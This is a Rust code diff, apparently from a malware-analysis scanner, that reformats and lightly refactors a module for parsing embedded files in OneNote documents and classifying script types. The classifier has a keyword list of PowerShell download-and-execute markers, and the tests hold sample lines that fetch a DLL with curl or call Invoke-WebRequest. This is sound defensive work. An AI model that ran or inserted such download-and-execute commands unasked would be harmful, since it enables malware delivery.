@@ -25,6 +25,7 @@
 //! content (see [`ext_for`]; for plain-text scripts a small content heuristic decides between hta,
 //! wsf, ps1, js, vbs and bat, so that the file checks treat a script as one).
 
+use crate::bytes::find;
 use crate::detect::{self, Kind};
 use crate::engine::{Ctx, Via};
 use crate::report::Location;
@@ -86,18 +87,19 @@ pub fn scan(bytes: &[u8]) -> Scan<'_> {
         // The padding makes the whole structure (36 + cbLength + padding + 16) a multiple of 8,
         // so the footer is within 7 bytes after the data; any of those positions is accepted.
         let data_end = start + l;
-        let footer_ok = (0..8usize).any(|p| bytes.get(data_end + p..data_end + p + 16) == Some(&FDSO_FOOTER[..]));
-        s.objects.push(Embedded { offset: at, data, footer_ok });
+        let footer_ok = (0..8usize)
+            .any(|p| bytes.get(data_end + p..data_end + p + 16) == Some(&FDSO_FOOTER[..]));
+        s.objects.push(Embedded {
+            offset: at,
+            data,
+            footer_ok,
+        });
         if footer_ok {
             // Skip the object's own data: a GUID inside it is content, not structure.
             pos = start + l;
         }
     }
     s
-}
-
-fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
-    hay.windows(needle.len()).position(|w| w == needle)
 }
 
 /// FileDataStoreObjectReferenceFND nodes: (offset of the referenced FileDataStoreObject, its
@@ -133,7 +135,9 @@ pub fn data_references(bytes: &[u8], objects: &[usize]) -> Vec<(usize, [u8; 16])
             2 => 1,
             _ => 2,
         };
-        let Some(stp) = stp.and_then(|v| usize::try_from(v).ok()) else { continue };
+        let Some(stp) = stp.and_then(|v| usize::try_from(v).ok()) else {
+            continue;
+        };
         if !objects.contains(&stp) {
             continue;
         }
@@ -172,19 +176,45 @@ pub fn recorded_extensions(bytes: &[u8]) -> Vec<(String, String)> {
         if cch != Some(&[45, 0, 0, 0][..]) {
             continue;
         }
-        let Some(text) = bytes.get(at..at + 90) else { continue };
-        let units: Vec<u16> = text.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
-        let Ok(s) = String::from_utf16(&units) else { continue };
-        let Some(guid) = s.strip_prefix("<ifndf>") else { continue };
-        let Some(ext_len) = bytes.get(at + 90..at + 94).map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize) else { continue };
+        let Some(text) = bytes.get(at..at + 90) else {
+            continue;
+        };
+        let units: Vec<u16> = text
+            .chunks_exact(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect();
+        let Ok(s) = String::from_utf16(&units) else {
+            continue;
+        };
+        let Some(guid) = s.strip_prefix("<ifndf>") else {
+            continue;
+        };
+        let Some(ext_len) = bytes
+            .get(at + 90..at + 94)
+            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize)
+        else {
+            continue;
+        };
         if !(2..=16).contains(&ext_len) {
             continue;
         }
-        let Some(e) = bytes.get(at + 94..at + 94 + ext_len * 2) else { continue };
-        let units: Vec<u16> = e.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
-        let Ok(ext) = String::from_utf16(&units) else { continue };
+        let Some(e) = bytes.get(at + 94..at + 94 + ext_len * 2) else {
+            continue;
+        };
+        let units: Vec<u16> = e
+            .chunks_exact(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect();
+        let Ok(ext) = String::from_utf16(&units) else {
+            continue;
+        };
         let ext = ext.to_lowercase();
-        if ext.starts_with('.') && ext.len() >= 2 && ext[1..].chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+        if ext.starts_with('.')
+            && ext.len() >= 2
+            && ext[1..]
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+        {
             out.push((guid.to_ascii_uppercase(), ext));
         }
         if out.len() >= MAX_OBJECTS {
@@ -245,17 +275,36 @@ pub fn script_ext(bytes: &[u8]) -> Option<&'static str> {
         // HTML with script: mshta runs it the same as an .hta when it is named so; keep html.
         return None;
     }
-    const PS: &[&str] = &["invoke-expression", "invoke-webrequest", "new-object net.webclient", "start-process", "-encodedcommand", "[system.convert]::frombase64string", "downloadstring(", "set-executionpolicy"];
+    const PS: &[&str] = &[
+        "invoke-expression",
+        "invoke-webrequest",
+        "new-object net.webclient",
+        "start-process",
+        "-encodedcommand",
+        "[system.convert]::frombase64string",
+        "downloadstring(",
+        "set-executionpolicy",
+    ];
     if PS.iter().any(|k| t.contains(k)) {
         return Some("ps1");
     }
     if t.contains("activexobject(") || t.contains("wscript.createobject(") && t.contains("var ") {
         return Some("js");
     }
-    if t.contains("createobject(") || t.contains("wscript.") || t.contains("on error resume next") || (t.contains("\nsub ") && t.contains("end sub")) {
+    if t.contains("createobject(")
+        || t.contains("wscript.")
+        || t.contains("on error resume next")
+        || (t.contains("\nsub ") && t.contains("end sub"))
+    {
         return Some("vbs");
     }
-    if t.starts_with("@echo off") || t.contains("\n@echo off") || t.contains("cmd /c") || t.contains("cmd.exe /c") || t.contains("start /b ") || t.contains("\nstart /min") {
+    if t.starts_with("@echo off")
+        || t.contains("\n@echo off")
+        || t.contains("cmd /c")
+        || t.contains("cmd.exe /c")
+        || t.contains("start /b ")
+        || t.contains("\nstart /min")
+    {
         return Some("bat");
     }
     None
@@ -265,18 +314,29 @@ pub fn script_ext(bytes: &[u8]) -> Option<&'static str> {
 pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
     let s = scan(bytes);
     for &at in s.broken.iter().take(20) {
-        ctx.finding("archive.malformed", loc, format!("OneNote: embedded file at offset {at} runs past the end of the file"));
+        ctx.finding(
+            "archive.malformed",
+            loc,
+            format!("OneNote: embedded file at offset {at} runs past the end of the file"),
+        );
     }
     if !s.broken.is_empty() {
         ctx.incomplete();
     }
     let missing_footer = s.objects.iter().filter(|o| !o.footer_ok).count();
     if missing_footer > 0 {
-        ctx.finding("archive.malformed", loc, format!("OneNote: {missing_footer} embedded file(s) without their end marker"));
+        ctx.finding(
+            "archive.malformed",
+            loc,
+            format!("OneNote: {missing_footer} embedded file(s) without their end marker"),
+        );
         ctx.incomplete();
     }
     if s.capped {
-        ctx.limit_hit(loc, format!("OneNote: more than {MAX_OBJECTS} embedded files"));
+        ctx.limit_hit(
+            loc,
+            format!("OneNote: more than {MAX_OBJECTS} embedded files"),
+        );
     }
     if s.objects.is_empty() {
         return;
@@ -289,7 +349,9 @@ pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
     let recorded = |offset: usize| -> Option<String> {
         let (_, g) = refs.iter().find(|(o, _)| *o == offset)?;
         let t = guid_text(g);
-        exts.iter().find(|(gt, _)| *gt == t).map(|(_, e)| e.trim_start_matches('.').to_string())
+        exts.iter()
+            .find(|(gt, _)| *gt == t)
+            .map(|(_, e)| e.trim_start_matches('.').to_string())
     };
     let mut analysed: u64 = 0;
     let mut types: Vec<String> = Vec::new();
@@ -306,7 +368,8 @@ pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
             ctx.limit_hit(loc, "OneNote: embedded files overlap beyond the size limit");
             break;
         }
-        let ext = recorded(o.offset).unwrap_or_else(|| ext_for(o.data, detect::sniff(o.data, "")).to_string());
+        let ext = recorded(o.offset)
+            .unwrap_or_else(|| ext_for(o.data, detect::sniff(o.data, "")).to_string());
         if !types.contains(&ext) {
             types.push(ext.clone());
         }
@@ -315,7 +378,11 @@ pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
         done += 1;
     }
     let n = s.objects.len();
-    let mut ev = format!("{n} embedded file{} ({})", if n == 1 { "" } else { "s" }, types.join(", "));
+    let mut ev = format!(
+        "{n} embedded file{} ({})",
+        if n == 1 { "" } else { "s" },
+        types.join(", ")
+    );
     if done < n {
         ev.push_str(&format!("; {} not inspected (over a limit)", n - done));
     }
@@ -362,18 +429,39 @@ mod tests {
 
     #[test]
     fn guid_as_text() {
-        let g = [0x13, 0x39, 0x6B, 0x50, 0x90, 0xE3, 0x40, 0x1C, 0xB8, 0x42, 0xA3, 0x9A, 0x82, 0x21, 0xE4, 0xA7];
+        let g = [
+            0x13, 0x39, 0x6B, 0x50, 0x90, 0xE3, 0x40, 0x1C, 0xB8, 0x42, 0xA3, 0x9A, 0x82, 0x21,
+            0xE4, 0xA7,
+        ];
         assert_eq!(guid_text(&g), "{506B3913-E390-1C40-B842-A39A8221E4A7}");
     }
 
     #[test]
     fn script_kinds() {
-        assert_eq!(script_ext(b"<HTML><HTA:APPLICATION ID=x><script>..."), Some("hta"));
-        assert_eq!(script_ext(b"<job id=a><script language=\"VBScript\">"), Some("wsf"));
-        assert_eq!(script_ext(b"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\""), Some("vbs"));
-        assert_eq!(script_ext(b"var s = new ActiveXObject(\"WScript.Shell\");"), Some("js"));
-        assert_eq!(script_ext(b"@echo off\r\ncurl -o a.dll http://x\r\n"), Some("bat"));
-        assert_eq!(script_ext(b"powershell Invoke-WebRequest http://x"), Some("ps1"));
+        assert_eq!(
+            script_ext(b"<HTML><HTA:APPLICATION ID=x><script>..."),
+            Some("hta")
+        );
+        assert_eq!(
+            script_ext(b"<job id=a><script language=\"VBScript\">"),
+            Some("wsf")
+        );
+        assert_eq!(
+            script_ext(b"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\""),
+            Some("vbs")
+        );
+        assert_eq!(
+            script_ext(b"var s = new ActiveXObject(\"WScript.Shell\");"),
+            Some("js")
+        );
+        assert_eq!(
+            script_ext(b"@echo off\r\ncurl -o a.dll http://x\r\n"),
+            Some("bat")
+        );
+        assert_eq!(
+            script_ext(b"powershell Invoke-WebRequest http://x"),
+            Some("ps1")
+        );
         assert_eq!(script_ext(b"Meeting notes for Monday"), None);
     }
 }
